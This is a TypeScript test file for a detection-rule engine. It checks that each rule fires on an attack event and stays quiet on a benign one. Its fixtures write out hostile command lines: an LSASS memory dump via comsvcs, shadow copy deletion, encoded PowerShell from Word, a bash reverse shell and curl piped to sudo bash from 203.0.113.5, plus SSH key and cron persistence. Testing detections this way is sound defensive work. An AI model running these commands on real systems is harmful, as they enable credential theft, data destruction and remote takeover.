import { readdirSync, readFileSync, statSync } from 'node:fs';
import { dirname, join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { checkRules } from './check-rules.js';
import type { DetectionEvent } from './detection-event.js';
import { type Pipeline, parsePipeline } from './pipeline.js';
import { compileRuleset } from './ruleset.js';

const content = join(dirname(fileURLToPath(import.meta.url)), '..', '..', '..', 'content');

function files(dir: string, ext: string): string[] {
  return readdirSync(dir).flatMap((n) => {
    const p = join(dir, n);
    return statSync(p).isDirectory() ? files(p, ext) : n.endsWith(ext) ? [p] : [];
  });
}

const pipelines: Pipeline[] = files(join(content, 'pipelines'), '.json').map((f) => {
  const p = parsePipeline(JSON.parse(readFileSync(f, 'utf8')), f);
  if (!p.pipeline) throw new Error(JSON.stringify(p.diagnostics));
  return p.pipeline;
});
const rules = files(join(content, 'rules'), '.yml').map((f) => ({
  path: relative(content, f),
  text: readFileSync(f, 'utf8'),
}));
const ruleset = compileRuleset(rules, pipelines);

const win = (commandLine: string, image: string, parent = 'C:\\Windows\\explorer.exe'): DetectionEvent => ({
  table: 'DeviceProcessEvents',
  row: {
    ActionType: 'ProcessCreated',
    FolderPath: image,
    ProcessCommandLine: commandLine,
    InitiatingProcessFolderPath: parent,
  },
});
const lnx = (commandLine: string, image = '/usr/bin/bash'): DetectionEvent => ({
  table: 'DeviceProcessEvents',
  row: { ActionType: 'ProcessCreated', FolderPath: image, ProcessCommandLine: commandLine },
});
const lnxFile = (path: string, image: string): DetectionEvent => ({
  table: 'DeviceFileEvents',
  row: { ActionType: 'FileCreated', FolderPath: path, InitiatingProcessFolderPath: image },
});
const security = (eventId: number, provider: string): DetectionEvent => ({
  table: eventId === 1102 ? 'DeviceEvents' : 'VigilRawEvents',
  row: {
    ActionType: 'SecurityLogCleared',
    AdditionalFields: JSON.stringify({ EventID: eventId, Channel: 'Security', Provider: provider }),
  },
});
const runKey = (key: string, data: string): DetectionEvent => ({
  table: 'DeviceRegistryEvents',
  row: { ActionType: 'RegistryValueSet', RegistryKey: key, RegistryValueName: 'Updater', RegistryValueData: data },
});
const runKeyPath = 'HKEY_CURRENT_USER\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run';

const cases: [string, string, DetectionEvent, DetectionEvent][] = [
  [
    '33a07426-3d46-4d12-a314-93421265f820',
    'LSASS dump via comsvcs',
    win(
      'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full',
      'C:\\Windows\\System32\\rundll32.exe',
    ),
    win('rundll32.exe shell32.dll,Control_RunDLL', 'C:\\Windows\\System32\\rundll32.exe'),
  ],
  [
    'aeeb61b9-5ec7-4ac3-a1be-c500440db1d5',
    'shadow copy deletion',
    win('vssadmin.exe Delete Shadows /All /Quiet', 'C:\\Windows\\System32\\vssadmin.exe'),
    win('vssadmin.exe list shadows', 'C:\\Windows\\System32\\vssadmin.exe'),
  ],
  [
    'e35ae10d-5da9-4c42-9b0b-3ad4f02fbe68',
    'encoded PowerShell from Word',
    win(
      'powershell.exe -nop /enc SQBFAFgA',
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    ),
    win('powershell.exe -nop /enc SQBFAFgA', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'),
  ],
  [
    'ad976499-c4a0-45a3-baf7-a5ec6865971b',
    'Security log cleared',
    security(1102, 'Microsoft-Windows-Eventlog'),
    security(4624, 'Microsoft-Windows-Security-Auditing'),
  ],
  [
    '720f2770-99ff-4465-81ad-b8504b78bfae',
    'Run key to a script host',
    runKey(runKeyPath, 'wscript.exe C:\\Users\\a\\AppData\\x.vbs'),
    runKey(runKeyPath, 'C:\\Program Files\\Vendor\\agent.exe'),
  ],
  [
    'c0aed066-6b5d-4222-82d5-58ec8999a191',
    'bash reverse shell',
    lnx('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'),
    lnx('timeout 1 bash -c "cat < /dev/null > /dev/tcp/db/5432"'),
  ],
  [
    '25a0c9c9-6dfc-4015-97d7-5885e36bc93b',
    'download piped to a shell',
    lnx('curl -fsSL http://203.0.113.5/x.sh | sudo bash', '/usr/bin/curl'),
    lnx('curl -fsSL -o /tmp/x.sh http://example.org/x.sh', '/usr/bin/curl'),
  ],
  [
    'e7b8f4e2-d576-4603-8357-aaffa04a3f9f',
    'authorized_keys written',
    lnxFile('/root/.ssh/authorized_keys', '/usr/bin/python3'),
    lnxFile('/home/a/.ssh/authorized_keys', '/usr/bin/ssh-copy-id'),
  ],
  [
    '3253a568-ea86-4241-9f64-4385124a3233',
    'cron file written',
    lnxFile('/etc/cron.d/updater', '/tmp/.x/dropper'),
    lnxFile('/etc/cron.d/sysstat', '/usr/bin/dpkg'),
  ],
];

describe('our rules in content/rules', () => {
  it('all load without any diagnostic', () => {
    const checks = checkRules(rules, pipelines);
    expect(checks.filter((c) => !c.ok || c.diagnostics.length > 0)).toEqual([]);
    expect(ruleset.diagnostics).toEqual([]);
    for (const r of ruleset.rules) {
      expect(r.techniques.length, r.title).toBeGreaterThan(0);
    }
  });

  it.each(cases)('%s (%s) fires on the attack and not on the benign event', (id, _name, attack, benign) => {
    expect(ruleset.match(attack).map((m) => m.ruleId)).toContain(id);
    expect(ruleset.match(benign).map((m) => m.ruleId)).not.toContain(id);
  });

  it('the brute-force correlation fires on ten failed logons of one account in five minutes', () => {
    const failed = (i: number, user: string): DetectionEvent => ({
      table: 'DeviceLogonEvents',
      row: {
        Timestamp: new Date(Date.parse('2026-11-20T10:00:00Z') + i * 10_000).toISOString(),
        DeviceName: 'ws1',
        ActionType: 'LogonFailed',
        AdditionalFields: JSON.stringify({ EventID: 4625, Channel: 'Security', TargetUserName: user }),
      },
    });
    const fire = (events: DetectionEvent[]) => {
      const state = ruleset.createState();
      return events.flatMap((e) => ruleset.evaluate(e, state)).map((m) => m.ruleId);
    };
    const id = 'ee1da0c0-3c72-41f1-b638-88ebca3bc864';
    expect(fire(Array.from({ length: 10 }, (_, i) => failed(i, 'admin')))).toEqual([id]);
    expect(fire(Array.from({ length: 10 }, (_, i) => failed(i, `user${i % 2}`)))).toEqual([]);
  });
});
